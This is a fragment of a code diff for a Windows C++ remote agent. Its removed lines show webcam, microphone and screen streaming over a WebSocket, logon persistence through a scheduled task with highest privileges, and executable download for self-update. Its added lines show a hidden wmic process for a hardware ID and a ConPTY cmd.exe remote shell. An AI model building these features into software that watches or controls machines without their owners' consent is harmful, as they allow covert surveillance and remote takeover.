-        hr = pReader->SetStreamSelection(MF_SOURCE_READER_FIRST_VIDEO_STREAM, TRUE);
+DirNotifier* DirNotifierOpen(const std::wstring& dir) {
+    HANDLE wake = CreateEventW(nullptr, TRUE, FALSE, nullptr);
+    if (!wake) {
+        Fail();
+        return nullptr;
+    }
+    DirNotifier* notifier = new DirNotifier();
+    notifier->wake = wake;
+    if (!dir.empty()) {
+        notifier->change = FindFirstChangeNotificationW(dir.c_str(), FALSE,
+            FILE_NOTIFY_CHANGE_FILE_NAME | FILE_NOTIFY_CHANGE_SIZE | FILE_NOTIFY_CHANGE_LAST_WRITE);
+    }
+    return notifier;
+}
 
-        // Try color formats in order of preference
-        GUID formats[] = { MFVideoFormat_RGB24, MFVideoFormat_RGB32 };
-        bool formatSet = false;
-        
-        IMFMediaType* pType = nullptr;
-        MFCreateMediaType(&pType);
-        pType->SetGUID(MF_MT_MAJOR_TYPE, MFMediaType_Video);
+bool DirNotifierWait(DirNotifier* notifier, int timeoutMs) {
+    HANDLE handles[2] = { notifier->wake, notifier->change };
+    DWORD count = notifier->change != INVALID_HANDLE_VALUE ? 2 : 1;
+    DWORD waited = WaitForMultipleObjects(count, handles, FALSE, timeoutMs < 0 ? INFINITE : (DWORD)timeoutMs);
+    if (waited != WAIT_OBJECT_0 + 1) return false;
+    if (!FindNextChangeNotification(notifier->change)) {
+        FindCloseChangeNotification(notifier->change);
+        notifier->change = INVALID_HANDLE_VALUE;
+    }
+    return true;
+}
 
-        for (const auto& fmt : formats) {
-            pType->SetGUID(MF_MT_SUBTYPE, fmt);
-            hr = pReader->SetCurrentMediaType(MF_SOURCE_READER_FIRST_VIDEO_STREAM, nullptr, pType);
-            if (SUCCEEDED(hr)) {
-                formatSet = true;
-                if (fmt == MFVideoFormat_RGB32) {
-                    printf("[Webcam] Falling back to RGB32 format\n");
-                    m_use32Bit = true;
-                } else {
-                    printf("[Webcam] Using RGB24 format\n");
-                    m_use32Bit = false;
-                }
-                break;
-            }
-        }
-
-        if (!formatSet) {
-            printf("[Webcam] Could not set any supported RGB format: 0x%08X\n", hr);
-            pType->Release();
-            return false;
-        }
-        pType->Release();
+void DirNotifierWake(DirNotifier* notifier) {
+    SetEvent(notifier->wake);
+}
 
-        IMFMediaType* pCurrentType = nullptr;
-        if (SUCCEEDED(pReader->GetCurrentMediaType((DWORD)MF_SOURCE_READER_FIRST_VIDEO_STREAM, &pCurrentType))) {
-            MFGetAttributeSize(pCurrentType, MF_MT_FRAME_SIZE, &width, &height);
-            if (FAILED(pCurrentType->GetUINT32(MF_MT_DEFAULT_STRIDE, (UINT32*)&stride))) {
-                MFGetStrideForBitmapInfoHeader(MFVideoFormat_RGB24.Data1, width, &stride);
-            }
-            pCurrentType->Release();
-        }
+void DirNotifierClose(DirNotifier* notifier) {
+    if (!notifier) return;
+    if (notifier->change != INVALID_HANDLE_VALUE) FindCloseChangeNotification(notifier->change);
+    CloseHandle(notifier->wake);
+    delete notifier;
+}
 
-        initialized = true;
-        printf("[Webcam] Initialized successfully!\n");
-        return true;
-    }
+// ============ Host Info & Metrics ============
 
-    std::vector<BYTE> GetFrame(int quality) {
-        if (!initialized) {
-            if (!Initialize(m_deviceIndex)) return {};
-        }
+PDH_HQUERY cpuQuery;
+PDH_HCOUNTER cpuTotal;
+unsigned long long lastNetUp = 0;
+unsigned long long lastNetDown = 0;
+DWORD lastNetCheck = 0;
 
-        HRESULT hr;
-        IMFSample* pSample = nullptr;
-        DWORD streamIndex, flags;
-        LONGLONG timestamp;
+void InitMetrics() {
+    PdhOpenQuery(NULL, NULL, &cpuQuery);
+    PdhAddEnglishCounter(cpuQuery, L"\\Processor(_Total)\\% Processor Time", NULL, &cpuTotal);
+    PdhCollectQueryData(cpuQuery);
+}
 
-        hr = pReader->ReadSample(MF_SOURCE_READER_FIRST_VIDEO_STREAM, 0, &streamIndex, &flags, &timestamp, &pSample);
-        if (FAILED(hr)) {
-            printf("[Webcam] ReadSample failed: 0x%08X\n", hr);
-            return {};
-        }
+double GetCpuUsage() {
+    PDH_FMT_COUNTERVALUE counterVal;
+    PdhCollectQueryData(cpuQuery);
+    PdhGetFormattedCounterValue(cpuTotal, PDH_FMT_DOUBLE, NULL, &counterVal);
+    return counterVal.doubleValue;
+}
 
-        if (flags & MF_SOURCE_READERF_ENDOFSTREAM) {
-            printf("[Webcam] End of stream reached\n");
-            return {};
-        }
+int GetRamUsage() {
+    MEMORYSTATUSEX memInfo;
+    memInfo.dwLength = sizeof(MEMORYSTATUSEX);
+    GlobalMemoryStatusEx(&memInfo);
+    return memInfo.dwMemoryLoad; // % usage
+}
 
-        if (!pSample) return {};
+int GetDiskUsage() {
+    ULARGE_INTEGER freeBytesAvailable, totalNumberOfBytes, totalNumberOfFreeBytes;
+    if (GetDiskFreeSpaceEx(L"C:\\", &freeBytesAvailable, &totalNumberOfBytes, &totalNumberOfFreeBytes)) {
+        double total = (double)totalNumberOfBytes.QuadPart;
+        double free = (double)totalNumberOfFreeBytes.QuadPart;
+        return (int)((1.0 - (free / total)) * 100.0);
+    }
+    return 0;
+}
 
-        IMFMediaBuffer* pBuffer = nullptr;
-        hr = pSample->GetBufferByIndex(0, &pBuffer);
-        if (FAILED(hr)) {
-            printf("[Webcam] GetBufferByIndex failed: 0x%08X\n", hr);
-            pSample->Release();
-            return {};
-        }
+NetStats GetNetworkUsage() {
+    MIB_IF_TABLE2* table;
+    if (GetIfTable2(&table) != NO_ERROR) return { 0, 0 };
 
-        BYTE* pData = nullptr;
-        DWORD currentLength = 0;
-        std::vector<BYTE> buffer;
-        if (SUCCEEDED(pBuffer->Lock(&pData, nullptr, &currentLength))) {
-            Gdiplus::PixelFormat fmt = m_use32Bit ? PixelFormat32bppRGB : PixelFormat24bppRGB;
-            Bitmap bitmap(width, height, stride, fmt, pData);
-            IStream* pStream = nullptr;
-            if (SUCCEEDED(CreateStreamOnHGlobal(NULL, TRUE, &pStream))) {
-                CLSID clsid;
-                GetEncoderClsid(L"image/jpeg", &clsid);
-                
-                EncoderParameters encoderParams;
-                encoderParams.Count = 1;
-                encoderParams.Parameter[0].Guid = EncoderQuality;
-                encoderParams.Parameter[0].Type = EncoderParameterValueTypeLong;
-                encoderParams.Parameter[0].NumberOfValues = 1;
-                ULONG qual = (ULONG)quality;
-                encoderParams.Parameter[0].Value = &qual;
+    unsigned long long totalTx = 0;
+    unsigned long long totalRx = 0;
 
-                bitmap.Save(pStream, &clsid, &encoderParams);
-                
-                LARGE_INTEGER liZero = {};
-                pStream->Seek(liZero, STREAM_SEEK_SET, NULL);
-                STATSTG statstg;
-                pStream->Stat(&statstg, STATFLAG_NONAME);
-                ULONG streamSize = (ULONG)statstg.cbSize.QuadPart;
-                
-                buffer.resize(streamSize);
-                ULONG bytesRead;
-                pStream->Read(buffer.data(), streamSize, &bytesRead);
-                pStream->Release();
-            }
-            pBuffer->Unlock();
-        }
-        
-        pBuffer->Release();
-        pSample->Release();
-        return buffer;
+    for (int i = 0; i < table->NumEntries; i++) {
+        totalTx += table->Table[i].OutOctets;
+        totalRx += table->Table[i].InOctets;
     }
-};
+    FreeMibTable(table);
 
-class AudioStreamer {
-    IAudioClient* pAudioClient = nullptr;
-    IAudioCaptureClient* pCaptureClient = nullptr;
-    bool initialized = false;
-    int deviceIndex = 0;
-public:
-    AudioStreamer(int index) : deviceIndex(index) {}
-    ~AudioStreamer() {
-        if (pAudioClient) { pAudioClient->Stop(); pAudioClient->Release(); }
-        if (pCaptureClient) pCaptureClient->Release();
+    DWORD now = GetTickCount();
+    double timeDiff = (now - lastNetCheck) / 1000.0;
+    if (timeDiff < 0.1) return { 0, 0 }; // Too fast
+
+    double upSpeed = 0;
+    double downSpeed = 0;
+
+    if (lastNetCheck != 0) {
+        upSpeed = (totalTx - lastNetUp) / timeDiff / 1024.0; // KB/s
+        downSpeed = (totalRx - lastNetDown) / timeDiff / 1024.0; // KB/s
     }
-    std::vector<BYTE> GetAudioBytes() {
-        if (!initialized) {
-            IMMDeviceEnumerator* pEnumerator = nullptr;
-            if (FAILED(CoCreateInstance(__uuidof(MMDeviceEnumerator), NULL, CLSCTX_ALL, __uuidof(IMMDeviceEnumerator), (void**)&pEnumerator))) return {};
 
-            IMMDeviceCollection* pCollection = nullptr;
-            if (FAILED(pEnumerator->EnumAudioEndpoints(eCapture, DEVICE_STATE_ACTIVE, &pCollection))) {
-                pEnumerator->Release();
-                return {};
-            }
+    lastNetUp = totalTx;
+    lastNetDown = totalRx;
+    lastNetCheck = now;
 
-            UINT count = 0;
-            pCollection->GetCount(&count);
-            if (count == 0) {
-                pCollection->Release();
-                pEnumerator->Release();
-                return {};
-            }
+    return { upSpeed, downSpeed };
+}
 
-            if (deviceIndex < 0 || deviceIndex >= (int)count) deviceIndex = 0;
+// Get HWID using WMIC
+std::string GetHWID() {
+    std::string hwid;
+    HANDLE hRead, hWrite;
+    SECURITY_ATTRIBUTES sa = { sizeof(SECURITY_ATTRIBUTES), nullptr, TRUE };
 
-            IMMDevice* pDevice = nullptr;
-            if (FAILED(pCollection->Item(deviceIndex, &pDevice))) {
-                pCollection->Release();
-                pEnumerator->Release();
-                return {};
-            }
+    if (CreatePipe(&hRead, &hWrite, &sa, 0)) {
+        STARTUPINFOW si = { sizeof(STARTUPINFOW) };
+        si.dwFlags = STARTF_USESTDHANDLES | STARTF_USESHOWWINDOW;
+        si.hStdOutput = hWrite;
+        si.hStdError = hWrite;
+        si.wShowWindow = SW_HIDE;
 
-            if (FAILED(pDevice->Activate(__uuidof(IAudioClient), CLSCTX_ALL, NULL, (void**)&pAudioClient))) {
-                pDevice->Release();
-                pCollection->Release();
-                pEnumerator->Release();
-                return {};
-            }
+        PROCESS_INFORMATION pi = {};
+        wchar_t cmd[] = L"wmic csproduct get uuid";
 
-            WAVEFORMATEX* pwfx = nullptr;
-            pAudioClient->GetMixFormat(&pwfx);
+        if (CreateProcessW(nullptr, cmd, nullptr, nullptr, TRUE,
+            CREATE_NO_WINDOW, nullptr, nullptr, &si, &pi)) {
 
-            WAVEFORMATEX wfx = {};
-            wfx.wFormatTag = WAVE_FORMAT_PCM;
-            wfx.nChannels = 1;
-            wfx.nSamplesPerSec = 44100;
-            wfx.wBitsPerSample = 16;
-            wfx.nBlockAlign = (wfx.nChannels * wfx.wBitsPerSample) / 8;
-            wfx.nAvgBytesPerSec = wfx.nSamplesPerSec * wfx.nBlockAlign;
-            wfx.cbSize = 0;
+            WaitForSingleObject(pi.hProcess, 5000);
+            CloseHandle(hWrite);
 
-            if (FAILED(pAudioClient->Initialize(AUDCLNT_SHAREMODE_SHARED, AUDCLNT_STREAMFLAGS_AUTOCONVERTPCM, 10000000, 0, &wfx, NULL))) {
-                if (FAILED(pAudioClient->Initialize(AUDCLNT_SHAREMODE_SHARED, 0, 10000000, 0, pwfx, NULL))) {
-                pAudioClient->Release(); pAudioClient = nullptr;
-                pDevice->Release();
-                pCollection->Release();
-                pEnumerator->Release();
-                return {};
+            char buffer[512];
+            DWORD bytesRead;
+            std::string output;
+
+            while (ReadFile(hRead, buffer, sizeof(buffer) - 1, &bytesRead, nullptr) && bytesRead > 0) {
+                buffer[bytesRead] = '\0';
+                output += buffer;
             }
-        }
-        CoTaskMemFree(pwfx);
 
-        pAudioClient->GetService(__uuidof(IAudioCaptureClient), (void**)&pCaptureClient);
-        pAudioClient->Start();
+            // Parse UUID from output
+            size_t pos = output.find('\n');
+            if (pos != std::string::npos && pos + 1 < output.size()) {
+                std::string line = output.substr(pos + 1);
+                size_t start = line.find_first_not_of(" \t\r\n");
+                size_t end = line.find_last_not_of(" \t\r\n");
+                if (start != std::string::npos && end != std::string::npos) {
+                    hwid = line.substr(start, end - start + 1);
+                }
+            }
 
-        initialized = true;
-        pDevice->Release();
-        pCollection->Release();
-        pEnumerator->Release();
+            CloseHandle(pi.hProcess);
+            CloseHandle(pi.hThread);
+        }
+        else {
+            CloseHandle(hWrite);
+        }
+        CloseHandle(hRead);
     }
 
-    if (!pCaptureClient) return {};
-
-    std::vector<BYTE> result;
-    UINT32 packetLength = 0;
-    while (SUCCEEDED(pCaptureClient->GetNextPacketSize(&packetLength)) && packetLength > 0) {
-        BYTE* pData = nullptr;
-        UINT32 framesAvailable = 0;
-        DWORD flags = 0;
-        if (SUCCEEDED(pCaptureClient->GetBuffer(&pData, &framesAvailable, &flags, NULL, NULL))) {
-            if (!(flags & AUDCLNT_BUFFERFLAGS_SILENT)) {
-                result.insert(result.end(), pData, pData + (framesAvailable * 2)); // 16-bit mono = 2 bytes per frame
-            }
-            pCaptureClient->ReleaseBuffer(framesAvailable);
-        } else {
-            break;
-        }
-    }
-    return result;
-}
-};
-
-void StreamFrameLoop(std::string streamType, std::atomic<bool>& runningFlag, std::string mediaType, int deviceIndex) {
-HRESULT hrCoInit = CoInitializeEx(NULL, COINIT_MULTITHREADED);
-printf("[Stream] Starting %s frame push loop\n", streamType.c_str());
-
-    WebcamStreamer webcam(deviceIndex);
-    AudioStreamer mic(deviceIndex);
-
-    int sentCount = 0;
-    while (runningFlag && g_state.running && g_state.wsConnected) {
-        std::vector<BYTE> data;
-        BYTE mediaByte = 0;
-        
-        if (mediaType == "screen") {
-            data = CaptureScreenBytes(50);
-            mediaByte = 0x01;
-        } else if (mediaType == "cam") {
-            data = webcam.GetFrame(50);
-            mediaByte = 0x02;
-        } else if (mediaType == "mic") {
-            data = mic.GetAudioBytes();
-            mediaByte = 0x03;
-        }
-
-        if (!data.empty()) {
-            std::vector<BYTE> wsPacket;
-            wsPacket.push_back(mediaByte);
-            wsPacket.insert(wsPacket.end(), data.begin(), data.end());
-
-            std::lock_guard<std::mutex> lock(g_state.wsMutex);
-            if (g_state.hWebSocket && g_state.wsConnected) {
-                DWORD result = WinHttpWebSocketSend(g_state.hWebSocket,
-                    WINHTTP_WEB_SOCKET_BINARY_MESSAGE_BUFFER_TYPE,
-                    (PVOID)wsPacket.data(), (DWORD)wsPacket.size());
-                
-                if (result == ERROR_SUCCESS) {
-                    sentCount++;
-                    if (sentCount % 100 == 0) {
-                        printf("[Stream] Sent %d %s binary packets via WS\n", sentCount, mediaType.c_str());
-                    }
-                } else {
-                    printf("[Stream] WebSocket send binary failed for %s: %d\n", mediaType.c_str(), result);
-                    g_state.wsConnected = false;
-                }
-            }
-        }
+    // Fallback
+    if (hwid.empty()) {
+        wchar_t hostname[MAX_COMPUTERNAME_LENGTH + 1];
+        wchar_t username[UNLEN + 1];
+        DWORD size = MAX_COMPUTERNAME_LENGTH + 1;
+        GetComputerNameW(hostname, &size);
+        size = UNLEN + 1;
+        GetUserNameW(username, &size);
 
-        std::this_thread::sleep_for(std::chrono::milliseconds(mediaType == "mic" ? 15 : 100));
+        char hBuffer[512], uBuffer[512];
+        WideCharToMultiByte(CP_UTF8, 0, hostname, -1, hBuffer, sizeof(hBuffer), nullptr, nullptr);
+        WideCharToMultiByte(CP_UTF8, 0, username, -1, uBuffer, sizeof(uBuffer), nullptr, nullptr);
+        hwid = std::string(hBuffer) + "-" + std::string(uBuffer);
     }
 
-    if (SUCCEEDED(hrCoInit)) CoUninitialize();
-    printf("[Stream] %s frame push loop ended (%d frames sent)\n", streamType.c_str(), sentCount);
+    return hwid;
 }
 
 // Get device name
@@ -1159,24 +1066,6 @@ std::string GetDeviceName() {
     WideCharToMultiByte(CP_UTF8, 0, hostname, -1, buffer, sizeof(buffer), nullptr, nullptr);
     return std::string(buffer);
 }
-
-// URL encode
-std::string UrlEncode(const std::string& str) {
-    std::ostringstream escaped;
-    escaped.fill('0');
-    escaped << std::hex << std::uppercase;
-
-    for (char c : str) {
-        if (isalnum((unsigned char)c) || c == '-' || c == '_' || c == '.' || c == '~') {
-            escaped << c;
-        }
-        else {
-            escaped << '%' << std::setw(2) << int((unsigned char)c);
-        }
-    }
-    return escaped.str();
-}
-
 // Get OS Version
 std::string GetOSVersion() {
     HKEY hKey;
@@ -1199,813 +1088,1242 @@ unsigned long long GetSystemUptime() {
     return GetTickCount64();
 }
 
-bool CreateAutoRestartTask(const std::wstring& appPath) {
-    if (Config::DEBUG_MODE || !Config::AUTO_RESTART_ON_CRASH) {
-        return true;
-    }
-
-    HRESULT hr = CoInitializeEx(nullptr, COINIT_MULTITHREADED);
-    if (FAILED(hr)) return false;
-
-    ITaskService* pService = nullptr;
-    hr = CoCreateInstance(CLSID_TaskScheduler, nullptr, CLSCTX_INPROC_SERVER,
-        IID_ITaskService, (void**)&pService);
+// ============ Terminal ============
 
-    if (SUCCEEDED(hr)) {
-        hr = pService->Connect(_variant_t(), _variant_t(), _variant_t(), _variant_t());
+struct Pty {
+    HANDLE hPipeIn = INVALID_HANDLE_VALUE;       // Shell output
+    HANDLE hPipeOut = INVALID_HANDLE_VALUE;      // Shell input
+    HPCON hPseudoConsole = nullptr;
+    HANDLE hProcess = INVALID_HANDLE_VALUE;
+};
 
-        if (SUCCEEDED(hr)) {
-            ITaskFolder* pRootFolder = nullptr;
-            hr = pService->GetFolder(_bstr_t(L"\\"), &pRootFolder);
+typedef HRESULT(WINAPI* PFN_CreatePseudoConsole)(COORD, HANDLE, HANDLE, DWORD, HPCON*);
+typedef void(WINAPI* PFN_ClosePseudoConsole)(HPCON);
+typedef HRESULT(WINAPI* PFN_ResizePseudoConsole)(HPCON, COORD);
 
-            if (SUCCEEDED(hr)) {
-                // Delete existing task
-                pRootFolder->DeleteTask(_bstr_t(Config::APP_NAME), 0);
+PFN_CreatePseudoConsole g_CreatePseudoConsole = nullptr;
+PFN_ClosePseudoConsole g_ClosePseudoConsole = nullptr;
+PFN_ResizePseudoConsole g_ResizePseudoConsole = nullptr;
 
-                ITaskDefinition* pTask = nullptr;
-                hr = pService->NewTask(0, &pTask);
+// Load ConPTY API
+bool LoadConPTYAPI() {
+    HMODULE hKernel = GetModuleHandleW(L"kernel32.dll");
+    if (!hKernel) return false;
 
-                if (SUCCEEDED(hr)) {
-                    // Set registration info
-                    IRegistrationInfo* pRegInfo = nullptr;
-                    pTask->get_RegistrationInfo(&pRegInfo);
-                    if (pRegInfo) {
-                        pRegInfo->put_Author(_bstr_t(L"AgentHandler"));
-                        pRegInfo->put_Description(_bstr_t(L"Auto-restart AgentHandler on crash"));
-                        pRegInfo->Release();
-                    }
+    g_CreatePseudoConsole = (PFN_CreatePseudoConsole)GetProcAddress(hKernel, "CreatePseudoConsole");
+    g_ClosePseudoConsole = (PFN_ClosePseudoConsole)GetProcAddress(hKernel, "ClosePseudoConsole");
+    g_ResizePseudoConsole = (PFN_ResizePseudoConsole)GetProcAddress(hKernel, "ResizePseudoConsole");
 
-                    // Set principal (run with highest privileges)
-                    IPrincipal* pPrincipal = nullptr;
-                    pTask->get_Principal(&pPrincipal);
-                    if (pPrincipal) {
-                        pPrincipal->put_RunLevel(TASK_RUNLEVEL_HIGHEST);
-                        pPrincipal->Release();
-                    }
+    return (g_CreatePseudoConsole && g_ClosePseudoConsole && g_ResizePseudoConsole);
+}
 
-                    // Set settings
-                    ITaskSettings* pSettings = nullptr;
-                    pTask->get_Settings(&pSettings);
-                    if (pSettings) {
-                        pSettings->put_StartWhenAvailable(VARIANT_TRUE);
-                        pSettings->put_DisallowStartIfOnBatteries(VARIANT_FALSE);
-                        pSettings->put_StopIfGoingOnBatteries(VARIANT_FALSE);
-                        pSettings->put_RestartCount(3);
-                        pSettings->put_RestartInterval(_bstr_t(L"PT1M")); // 1 minute
-                        pSettings->Release();
-                    }
+Pty* PtyOpen(int cols, int rows) {
+    printf("Loading ConPTY API...\n");
+    if (!LoadConPTYAPI()) {
+        printf("ConPTY not supported (need Windows 10 1809+)\n");
+        return nullptr;
+    }
+    Pty* pty = new Pty();
 
-                    // Create trigger (on logon)
-                    ITriggerCollection* pTriggerCollection = nullptr;
-                    pTask->get_Triggers(&pTriggerCollection);
-                    if (pTriggerCollection) {
-                        ITrigger* pTrigger = nullptr;
-                        pTriggerCollection->Create(TASK_TRIGGER_LOGON, &pTrigger);
-                        if (pTrigger) {
-                            ILogonTrigger* pLogonTrigger = nullptr;
-                            pTrigger->QueryInterface(IID_ILogonTrigger, (void**)&pLogonTrigger);
-                            if (pLogonTrigger) {
-                                pLogonTrigger->put_Id(_bstr_t(L"LogonTriggerId"));
-                                pLogonTrigger->Release();
-                            }
-                            pTrigger->Release();
-                        }
-                        pTriggerCollection->Release();
-                    }
+    SECURITY_ATTRIBUTES sa;
+    sa.nLength = sizeof(SECURITY_ATTRIBUTES);
+    sa.bInheritHandle = TRUE;
+    sa.lpSecurityDescriptor = NULL;
 
-                    // Create action
-                    IActionCollection* pActionCollection = nullptr;
-                    pTask->get_Actions(&pActionCollection);
-                    if (pActionCollection) {
-                        IAction* pAction = nullptr;
-                        pActionCollection->Create(TASK_ACTION_EXEC, &pAction);
-                        if (pAction) {
-                            IExecAction* pExecAction = nullptr;
-                            pAction->QueryInterface(IID_IExecAction, (void**)&pExecAction);
-                            if (pExecAction) {
-                                pExecAction->put_Path(_bstr_t(appPath.c_str()));
-                                pExecAction->Release();
-                            }
-                            pAction->Release();
-                        }
-                        pActionCollection->Release();
-                    }
+    HANDLE hPipePTYIn = NULL;
+    HANDLE hPipePTYOut = NULL;
 
-                    // Register task
-                    IRegisteredTask* pRegisteredTask = nullptr;
-                    hr = pRootFolder->RegisterTaskDefinition(
-                        _bstr_t(Config::APP_NAME),
-                        pTask,
-                        TASK_CREATE_OR_UPDATE,
-                        _variant_t(),
-                        _variant_t(),
-                        TASK_LOGON_INTERACTIVE_TOKEN,
-                        _variant_t(L""),
-                        &pRegisteredTask);
+    if (!CreatePipe(&hPipePTYIn, &pty->hPipeOut, &sa, 0)) {
+        printf("Failed to create output pipe: %d\n", GetLastError());
+        delete pty;
+        return nullptr;
+    }
 
-                    if (pRegisteredTask) pRegisteredTask->Release();
-                    pTask->Release();
-                }
-                pRootFolder->Release();
-            }
-        }
-        pService->Release();
+    if (!CreatePipe(&pty->hPipeIn, &hPipePTYOut, &sa, 0)) {
+        printf("Failed to create input pipe: %d\n", GetLastError());
+        CloseHandle(hPipePTYIn);
+        CloseHandle(pty->hPipeOut);
+        delete pty;
+        return nullptr;
     }
 
-    CoUninitialize();
-    return SUCCEEDED(hr);
-}
+    SetHandleInformation(pty->hPipeIn, HANDLE_FLAG_INHERIT, 0);
+    SetHandleInformation(pty->hPipeOut, HANDLE_FLAG_INHERIT, 0);
 
-bool DownloadFile(const std::string& url, const std::wstring& destPath) {
-    // Parse URL
-    std::wstring wUrl = Utf8ToWide(url);
+    printf("Pipes created\n");
 
-    URL_COMPONENTS urlComp = { sizeof(URL_COMPONENTS) };
-    wchar_t scheme[32], host[256], path[1024];
-    urlComp.lpszScheme = scheme; urlComp.dwSchemeLength = 32;
-    urlComp.lpszHostName = host; urlComp.dwHostNameLength = 256;
-    urlComp.lpszUrlPath = path; urlComp.dwUrlPathLength = 1024;
+    COORD consoleSize;
+    consoleSize.X = (SHORT)cols;
+    consoleSize.Y = (SHORT)rows;
 
-    if (!WinHttpCrackUrl(wUrl.c_str(), 0, 0, &urlComp)) return false;
+    HRESULT hr = g_CreatePseudoConsole(
+        consoleSize,
+        hPipePTYIn,
+        hPipePTYOut,
+        0,
+        &pty->hPseudoConsole
+    );
 
-    bool useSSL = (urlComp.nScheme == INTERNET_SCHEME_HTTPS);
+    if (FAILED(hr)) {
+        printf("CreatePseudoConsole failed: 0x%08X\n", hr);
+        CloseHandle(hPipePTYIn);
+        CloseHandle(hPipePTYOut);
+        CloseHandle(pty->hPipeIn);
+        CloseHandle(pty->hPipeOut);
+        delete pty;
+        return nullptr;
+    }
 
-    HINTERNET hSession = WinHttpOpen(L"AgentUpdater/1.0",
-        WINHTTP_ACCESS_TYPE_AUTOMATIC_PROXY, nullptr, nullptr, 0);
-    if (!hSession) return false;
+    printf("ConPTY created\n");
 
-    HINTERNET hConnect = WinHttpConnect(hSession, host, urlComp.nPort, 0);
-    HINTERNET hRequest = WinHttpOpenRequest(hConnect, L"GET", path,
-        nullptr, nullptr, nullptr, useSSL ? WINHTTP_FLAG_SECURE : 0);
+    SIZE_T attributeListSize = 0;
+    InitializeProcThreadAttributeList(NULL, 1, 0, &attributeListSize);
 
-    bool success = false;
-    if (WinHttpSendRequest(hRequest, nullptr, 0, nullptr, 0, 0, 0) &&
-        WinHttpReceiveResponse(hRequest, nullptr)) {
+    PPROC_THREAD_ATTRIBUTE_LIST attributeList = (PPROC_THREAD_ATTRIBUTE_LIST)
+        HeapAlloc(GetProcessHeap(), 0, attributeListSize);
 
-        HANDLE hFile = CreateFileW(destPath.c_str(), GENERIC_WRITE, 0,
-            nullptr, CREATE_ALWAYS, FILE_ATTRIBUTE_NORMAL, nullptr);
+    if (!attributeList) {
+        printf("Failed to allocate attribute list\n");
+        g_ClosePseudoConsole(pty->hPseudoConsole);
+        CloseHandle(hPipePTYIn);
+        CloseHandle(hPipePTYOut);
+        delete pty;
+        return nullptr;
+    }
 
-        if (hFile != INVALID_HANDLE_VALUE) {
-            BYTE buf[8192];
-            DWORD bytesRead;
-            success = true;
-            while (WinHttpReadData(hRequest, buf, sizeof(buf), &bytesRead) && bytesRead > 0) {
-                DWORD written;
-                if (!WriteFile(hFile, buf, bytesRead, &written, nullptr)) {
-                    success = false;
-                    break;
-                }
-            }
-            CloseHandle(hFile);
+    if (!InitializeProcThreadAttributeList(attributeList, 1, 0, &attributeListSize)) {
+        printf("InitializeProcThreadAttributeList failed: %d\n", GetLastError());
+        HeapFree(GetProcessHeap(), 0, attributeList);
+        g_ClosePseudoConsole(pty->hPseudoConsole);
+        CloseHandle(hPipePTYIn);
+        CloseHandle(hPipePTYOut);
+        delete pty;
+        return nullptr;
+    }
+
+    if (!UpdateProcThreadAttribute(
+        attributeList,
+        0,
+        PROC_THREAD_ATTRIBUTE_PSEUDOCONSOLE,
+        pty->hPseudoConsole,
+        sizeof(HPCON),
+        NULL,
+        NULL
+    )) {
+        printf("UpdateProcThreadAttribute failed: %d\n", GetLastError());
+        DeleteProcThreadAttributeList(attributeList);
+        HeapFree(GetProcessHeap(), 0, attributeList);
+        g_ClosePseudoConsole(pty->hPseudoConsole);
+        CloseHandle(hPipePTYIn);
+        CloseHandle(hPipePTYOut);
+        delete pty;
+        return nullptr;
+    }
+
+    printf("Attribute list initialized\n");
+
+    STARTUPINFOEXW startupInfo;
+    ZeroMemory(&startupInfo, sizeof(startupInfo));
+    startupInfo.StartupInfo.cb = sizeof(STARTUPINFOEXW);
+    startupInfo.lpAttributeList = attributeList;
+
+    PROCESS_INFORMATION processInfo;
+    ZeroMemory(&processInfo, sizeof(processInfo));
+
+    wchar_t commandLine[] = L"cmd.exe";
+
+    printf("Creating process: %S\n", commandLine);
+
+    BOOL result = CreateProcessW(
+        NULL,
+        commandLine,
+        NULL,
+        NULL,
+        FALSE,
+        EXTENDED_STARTUPINFO_PRESENT | CREATE_UNICODE_ENVIRONMENT,
+        NULL,
+        NULL,
+        &startupInfo.StartupInfo,
+        &processInfo
+    );
+
+    DeleteProcThreadAttributeList(attributeList);
+    HeapFree(GetProcessHeap(), 0, attributeList);
+
+    CloseHandle(hPipePTYIn);
+    CloseHandle(hPipePTYOut);
+
+    if (!result) {
+        printf("CreateProcess failed: %d\n", GetLastError());
+        g_ClosePseudoConsole(pty->hPseudoConsole);
+        CloseHandle(pty->hPipeIn);
+        CloseHandle(pty->hPipeOut);
+        delete pty;
+        return nullptr;
+    }
+
+    pty->hProcess = processInfo.hProcess;
+    CloseHandle(processInfo.hThread);
+
+    printf("Process created (PID: %d)\n", processInfo.dwProcessId);
+    Sleep(500);
+
+    return pty;
+}
+
+int PtyRead(Pty* pty, char* buffer, size_t size) {
+    DWORD exitCode;
+    if (GetExitCodeProcess(pty->hProcess, &exitCode) && exitCode != STILL_ACTIVE) {
+        printf("Shell process exited with code: %d\n", exitCode);
+        return -1;
+    }
+
+    // Peeked first so a quiet shell never blocks the caller past a short sleep.
+    DWORD bytesAvail = 0;
+    if (!PeekNamedPipe(pty->hPipeIn, nullptr, 0, nullptr, &bytesAvail, nullptr)) {
+        if (GetLastError() == ERROR_BROKEN_PIPE) {
+            printf("PTY pipe broken\n");
+            return -1;
         }
+        Sleep(100);
+        return 0;
+    }
+    if (bytesAvail == 0) {
+        Sleep(50);
+        return 0;
     }
 
-    WinHttpCloseHandle(hRequest);
-    WinHttpCloseHandle(hConnect);
-    WinHttpCloseHandle(hSession);
-    return success;
+    DWORD bytesRead = 0;
+    if (!ReadFile(pty->hPipeIn, buffer, (DWORD)size, &bytesRead, nullptr)) return 0;
+    return (int)bytesRead;
 }
 
+bool PtyWrite(Pty* pty, const char* data, size_t size) {
+    DWORD written;
+    return WriteFile(pty->hPipeOut, data, (DWORD)size, &written, nullptr) != FALSE;
+}
 
-void PerformUpdate(const std::string& updateUrl) {
-    printf("Starting update from: %s\n", updateUrl.c_str());
-    
-    // 1. Dapatkan path executable saat ini
-    wchar_t exePath[MAX_PATH];
-    GetModuleFileNameW(nullptr, exePath, MAX_PATH);
-    std::wstring currentPath(exePath);
-    
-    // 2. Tentukan path temp untuk download
-    wchar_t tempDir[MAX_PATH];
-    GetTempPathW(MAX_PATH, tempDir);
-    std::wstring tempPath = std::wstring(tempDir) + L"agent_update.exe";
-    std::wstring batchPath = std::wstring(tempDir) + L"do_update.bat";
-    
-    // 3. Download file baru
-    json statusMsg;
-    statusMsg["type"] = "update_status";
-    statusMsg["stage"] = "downloading";
-    SendWsMessage(statusMsg);
-    
-    bool downloaded = DownloadFile(updateUrl, tempPath);
-    if (!downloaded) {
-        json resp;
-        resp["type"] = "update_status";
-        resp["success"] = false;
-        resp["error"] = "Download failed";
-        SendWsMessage(resp);
-        return;
+void PtyResize(Pty* pty, int cols, int rows) {
